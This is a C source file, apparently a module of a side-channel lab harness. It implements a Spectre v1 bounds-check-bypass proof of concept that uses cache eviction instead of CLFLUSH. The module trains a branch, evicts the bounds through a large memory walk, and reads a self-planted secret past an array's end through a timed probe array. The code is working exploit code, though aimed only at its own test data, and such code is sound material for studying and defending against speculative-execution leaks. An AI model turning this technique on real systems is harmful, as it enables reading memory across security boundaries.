/*
 * Evict+Reload: Spectre v1 without CLFLUSH. Lines leave the near caches because others take their places.
 *
 * A walk over more than the size of the L2 cache pushes everything out to L3, the bounds too, and their pointer: two
 * loads from L3, one after the other, keep the branch waiting long enough. The receiver tells L1 and L2 from L3.
 */
#define LAB_OWN_RECEIVER
#define SPACING (STRIDE + LINE) /* not all in one set of the L1 cache, or they would push each other out */
#include "lab.h"

static const char ABOUT[] = "nobody through victim(): the secret lies beyond the end of its array";

static struct { u64 length, rest[7]; } bound __attribute__((aligned(LINE))) = {16, {0}};
static struct { u64 *volatile length, rest[7]; } shape __attribute__((aligned(LINE))) = {&bound.length, {0}};
static u8 array[LINE] __attribute__((aligned(LINE)));
static u8 secret[MOST] __attribute__((aligned(LINE)));
static const u8 *crowd;
static u64 crowd_size; /* a power of two */

NOINLINE static void victim(u64 index)
{
    SAME_HISTORY();
    if (index < *shape.length)
        touch(probe + array[index] * SPACING);
}

NOINLINE static void evict(void)
{
    u64 end = crowd_size, mask = crowd_size - 1;
    const u8 *lines = crowd;
    for (u64 i = 0; i < end; i += LINE)
        touch(lines + (i * 40503 & mask)); /* in an order that no prefetcher guesses */
    fence();
}

static void listen(void)
{
    u16 near[SAMPLES], far[SAMPLES];
    u64 size = (u64)(cpuid(0x80000006, 0).c >> 16) << 10; /* of L2 */
    for (crowd_size = 1 << 19; crowd_size < size + size / 2; crowd_size *= 2)
        ;
    u8 *fresh = map(0, crowd_size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1);
    if (failed(fresh))
        return;
    crowd = fresh;
    for (u64 i = 0; i < crowd_size; i += PAGE)
        fresh[i] = 1;
    for (u64 i = 0; i < sizeof probe; i += PAGE)
        probe[i] = 1;
    for (u64 i = 0; i < SAMPLES; i++)
        touch(probe + i * SPACING);
    fence();
    for (u64 i = 0; i < SAMPLES; i++)
        near[i] = time_of_load(probe + i * 12 % SAMPLES * SPACING);
    evict();
    for (u64 i = 0; i < SAMPLES; i++)
        far[i] = time_of_load(probe + i * 12 % SAMPLES * SPACING);
    set_threshold(median(near, SAMPLES), median(far, SAMPLES));
}

static int prepare(u64 bytes)
{
    make_secret(secret, bytes);
    ignored[array[0]] = 1;
    return threshold != 0;
}

static void attempt(u64 index)
{
    u64 outside = secret + index - array;
    for (int more = trainings(); more > 0; more--)
        victim(more);
    evict();
    touch(secret + index); /* the victim works with it */
    fence();
    victim(outside);
}

static void receive(void)
{
    reload_probe();
}

static void done(void)
{
}
